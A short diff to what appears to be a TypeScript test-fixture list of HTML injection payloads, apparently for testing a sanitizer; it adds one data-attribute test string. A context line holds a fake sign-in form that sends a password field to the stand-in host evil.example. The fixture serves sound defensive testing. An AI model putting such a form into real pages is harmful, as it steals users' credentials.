@@ -110,6 +110,7 @@ export const PAYLOADS: Record<string, readonly string[]> = {
     '<div data-component="testimonial-carousel" data-rule="x">x</div>',
     '<div DATA-COMPONENT="contact-form">x</div>',
     '<div data-component-name="x" data-rules="y">x</div>',
+    '<p data-island="1" data-prepared-style="0 color: red;">x</p>',
   ],
   'fake controls': [
     '<form action="https://evil.example"><input type="password" name="p"><button>Sign in</button></form>',
